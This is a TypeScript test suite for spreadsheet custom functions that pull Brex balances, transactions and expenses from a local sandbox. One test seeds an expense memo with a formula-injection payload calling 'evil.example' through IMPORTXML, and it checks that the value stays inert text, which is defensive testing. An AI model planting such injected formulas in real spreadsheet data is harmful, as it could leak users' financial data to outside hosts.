/**
 * The custom functions through the built bundle (dist/Code.js) in the local Apps Script runtime,
 * in CUSTOM_FUNCTION mode, against the Brex sandbox over loopback HTTP.
 */
import { createRuntime, type Runtime } from '../../dev/runtime/runtime';
import { spawnSandbox, type SpawnedSandbox, type Snapshot } from '../../dev/sandbox';
import { findSheet, getCell } from '../../dev/runtime/workbook';
import { readable } from '../../src/cells/readable-values';

let sandbox: SpawnedSandbox;

beforeAll(async () => {
  sandbox = await spawnSandbox({ seed: 'functions', today: '2026-03-15' });
});

afterAll(async () => {
  await sandbox?.close();
});

async function connectedRuntime(): Promise<Runtime> {
  const runtime = createRuntime({ brexUrl: sandbox.url });
  await runtime.call('connect', [{ token: sandbox.token }]);
  return runtime;
}

async function snapshot(): Promise<Snapshot> {
  return (await fetch(`${sandbox.url}/_sandbox/state`).then((r) => r.json())) as Snapshot;
}

async function requestCount(): Promise<number> {
  const log = (await fetch(`${sandbox.url}/_sandbox/log`).then((r) => r.json())) as unknown[];
  return log.length;
}

/** Types a formula into Sheet1!A1 and returns what spilled, or the cell's error. */
async function formula(runtime: Runtime, text: string, cell = 'A1') {
  await runtime.edit(`Sheet1!${cell}`, text);
  const sheet = findSheet(runtime.workbook, 'Sheet1');
  const error = sheet ? getCell(sheet, 1, 1)?.error : undefined;
  return { values: runtime.values('Sheet1'), error };
}

type Row = unknown[];
const START = '2026-02-01';
const END = '2026-02-28';
const inPeriod = (day: string | null | undefined) => !!day && day >= START && day <= END;
const dollars = (money: { amount?: number } | null | undefined) =>
  money?.amount === undefined ? '' : money.amount / 100;

function present<T>(value: T | undefined): T {
  if (value === undefined) throw new Error('The sandbox lacks what this test needs.');
  return value;
}

/** The rows under the header, as objects by header name. */
function table(values: unknown[][]): Record<string, unknown>[] {
  const [header, ...rows] = values as Row[];
  return rows.map((row) => Object.fromEntries((header as string[]).map((h, i) => [h, row[i]])));
}

describe('custom functions in the local runtime', () => {
  let runtime: Runtime;
  let state: Snapshot;

  beforeAll(async () => {
    runtime = await connectedRuntime();
    state = await snapshot();
  });

  it('BREX_BALANCES shows every card and cash account with its balances', async () => {
    const { values } = await formula(runtime, '=BREX_BALANCES()');

    const rows = table(values);
    expect(rows.map((r) => [r['Brex ID'], r['Current balance'], r['Available balance']])).toEqual([
      ...state.card_accounts.map((a) => [
        a.id,
        dollars(a.current_balance),
        dollars(a.available_balance),
      ]),
      ...state.cash_accounts.map((a) => [
        a.id,
        dollars(a.current_balance),
        dollars(a.available_balance),
      ]),
    ]);
  });

  it('BREX_BALANCE returns one number', async () => {
    const primary = state.cash_accounts.find((a) => a.primary);

    const { values } = await formula(runtime, '=BREX_BALANCE("cash", "available")');

    expect(values).toEqual([[dollars(primary?.available_balance)]]);
  });

  it('BREX_TRANSACTIONS returns the period’s settled card transactions, and an identical call sends no request', async () => {
    const expected = state.card_transactions.filter((t) => inPeriod(t.posted_at_date));

    const first = await formula(runtime, `=BREX_TRANSACTIONS("${START}", "${END}")`);
    const requests = await requestCount();
    const fetches = runtime.stats.fetches;
    const second = await formula(runtime, `=BREX_TRANSACTIONS("${START}", "${END}", "card")`, 'A1');

    expect(table(first.values).map((r) => [r['Brex ID'], r.Amount])).toEqual(
      expected.map((t) => [t.id, dollars(t.amount)]),
    );
    expect(second.values).toEqual(first.values);
    expect(await requestCount()).toBe(requests);
    expect(runtime.stats.fetches).toBe(fetches);
  });

  it('BREX_TRANSACTIONS shows the chosen columns of one cash account', async () => {
    const account = present(state.cash_accounts[0]);
    const expected = present(state.cash_transactions[account.id]).filter((t) =>
      inPeriod(t.posted_at_date),
    );

    const { values } = await formula(
      runtime,
      `=BREX_TRANSACTIONS("${START}", "${END}", "${account.id}", "Amount, Brex ID")`,
    );

    expect(values).toEqual([
      ['Amount', 'Brex ID'],
      ...expected.map((t) => [dollars(t.amount), t.id]),
    ]);
  });

  it('BREX_EXPENSES returns the period’s expenses, a memo written as a formula staying text', async () => {
    const target = present(state.expenses.find((e) => inPeriod(e.purchased_at?.slice(0, 10))));
    await fetch(`${sandbox.url}/_sandbox/expenses/touch`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ ids: [target.id], memo: '=IMPORTXML("https://evil.example","//a")' }),
    });
    const expected = (await snapshot()).expenses.filter((e) =>
      inPeriod(e.purchased_at?.slice(0, 10)),
    );

    const { values } = await formula(runtime, `=BREX_EXPENSES("${START}", "${END}")`);

    const rows = table(values);
    expect(rows.map((r) => r['Brex ID']).sort()).toEqual(expected.map((e) => e.id).sort());
    expect(rows.find((r) => r['Brex ID'] === target.id)?.Memo).toBe(
      '=IMPORTXML("https://evil.example","//a")',
    );
    expect(
      runtime
        .formulas('Sheet1')
        .flat()
        .filter((f) => f !== ''),
    ).toEqual([`=BREX_EXPENSES("${START}", "${END}")`]);
  });

  it('BREX_EXPENSE_CATEGORIES and BREX_SPEND total the billing amounts of the period', async () => {
    const totals = new Map<string, number>();
    for (const e of state.expenses.filter((x) => inPeriod(x.purchased_at?.slice(0, 10)))) {
      const key = readable(e.category);
      const cents = (e.billing_amount ?? e.original_amount)?.amount ?? 0;
      totals.set(key, (totals.get(key) ?? 0) + cents);
    }

    const categories = await formula(runtime, `=BREX_EXPENSE_CATEGORIES("${START}", "${END}")`);
    const spend = await formula(runtime, `=BREX_SPEND("category", "${START}", "${END}")`);

    const byCategory = (values: unknown[][]) =>
      Object.fromEntries(table(values).map((r) => [r.Category, r.Spend]));
    const expected = Object.fromEntries([...totals].map(([k, cents]) => [k, cents / 100]));
    expect(byCategory(categories.values)).toEqual(expected);
    expect(byCategory(spend.values)).toEqual(expected);
    // The period each total covers is named in the header row.
    expect([categories.values[0]?.at(-1), spend.values[0]?.at(-1)]).toEqual([
      `Period: ${START} to ${END}`,
      `Period: ${START} to ${END}`,
    ]);
  });

  it('BREX_SPEND groups by month', async () => {
    const { values } = await formula(runtime, `=BREX_SPEND("month", "${START}", "${END}")`);

    expect(table(values).map((r) => r.Month)).toEqual(['2026-02']);
  });

  it.each([
    ['BREX_SPEND_LIMITS', 'spend_limits'],
    ['BREX_CARDS', 'cards'],
    ['BREX_USERS', 'users'],
  ] as const)('%s lists every item of the sandbox', async (name, list) => {
    const { values } = await formula(runtime, `=${name}()`);

    expect(table(values).map((r) => r['Brex ID'])).toEqual(
      (state[list] as { id: string }[]).map((item) => item.id),
    );
  });

  it('Refresh formulas makes a formula that takes the refresh cell ask Brex again', async () => {
    await runtime.call('refreshFormulas');
    await formula(runtime, "=BREX_BALANCES('Brex Settings'!B1)");
    const requests = await requestCount();

    const toasts = runtime.ui.toasts.length;
    await runtime.call('refreshFormulas');

    expect(await requestCount()).toBeGreaterThan(requests);
    expect(runtime.ui.toasts.slice(toasts)).toEqual([
      expect.objectContaining({ title: 'Formulas refreshed' }),
    ]);
    expect(table(runtime.values('Sheet1')).length).toBe(
      state.card_accounts.length + state.cash_accounts.length,
    );
  });

  it.each([
    [
      '=BREX_TRANSACTIONS("abc")',
      'BREX_TRANSACTIONS: start_date must be a date or an ISO date like 2026-01-31; got "abc".',
    ],
    [
      '=BREX_TRANSACTIONS("2026-03-01", "2026-02-01")',
      'BREX_TRANSACTIONS: start_date 2026-03-01 is after end_date 2026-02-01. Give a start_date on or before the end_date.',
    ],
    [
      '=BREX_TRANSACTIONS("2026-03-01", , "savings")',
      'BREX_TRANSACTIONS: account must be "card", "cash", "all" or a cash account id; got "savings".',
    ],
    [
      '=BREX_TRANSACTIONS("2026-03-01", , , "Colour")',
      'BREX_TRANSACTIONS: columns names an unknown column "Colour".',
    ],
    [
      '=BREX_SPEND("vendor")',
      'BREX_SPEND: group_by must be "department", "user", "category", "merchant" or "month"; got "vendor".',
    ],
    [
      '=BREX_BALANCE(B1:B2)',
      'BREX_BALANCE: account takes one value, not a range of 2×1 cells. Point it at a single cell.',
    ],
  ])('%s shows #ERROR! with a message naming the argument', async (text, message) => {
    const { values, error } = await formula(runtime, text);

    expect(values[0]?.[0]).toBe('#ERROR!');
    expect(error).toContain(message);
  });
});

describe('custom functions when Brex refuses the token', () => {
  it('let the first formula ask Brex and the others show its answer without asking again', async () => {
    const runtime = await connectedRuntime();
    // The token is revoked at Brex after the spreadsheet was connected.
    const connection = JSON.parse(runtime.properties.document['brex.connection'] as string);
    runtime.properties.document['brex.connection'] = JSON.stringify({
      ...connection,
      token: 'revoked-token',
    });
    const before = await requestCount();

    const first = await formula(runtime, '=BREX_BALANCES()', 'A1');
    const asked = await requestCount();
    await runtime.edit('Sheet1!A10', '=BREX_TRANSACTIONS("2026-01-01")');
    await runtime.edit('Sheet1!A20', '=BREX_EXPENSES("2026-01-01")');

    expect(first.error).toMatch(/^BREX_BALANCES: .*token/i);
    expect(asked).toBeGreaterThan(before);
    expect(await requestCount()).toBe(asked);
    const sheet = findSheet(runtime.workbook, 'Sheet1');
    const errors = [10, 20].map((row) => (sheet ? getCell(sheet, row, 1)?.error : undefined));
    expect(errors).toEqual([
      expect.stringMatching(
        /^BREX_TRANSACTIONS: .*token.*Formulas ask Brex again within 5 minutes/i,
      ),
      expect.stringMatching(/^BREX_EXPENSES: .*token.*Formulas ask Brex again within 5 minutes/i),
    ]);
    for (const error of [first.error, ...errors]) expect(error).not.toContain('revoked-token');
  });
});

describe('custom functions without a connection', () => {
  it('return a single cell telling the person to connect', async () => {
    const runtime = createRuntime({ brexUrl: sandbox.url });
    const requests = await requestCount();

    const { values } = await formula(runtime, '=BREX_TRANSACTIONS("2026-01-01")');

    expect(values).toEqual([
      [
        'This spreadsheet is not connected to Brex. Connect it from Extensions ▸ Brex ▸ Open sidebar.',
      ],
    ]);
    expect(await requestCount()).toBe(requests);
  });
});
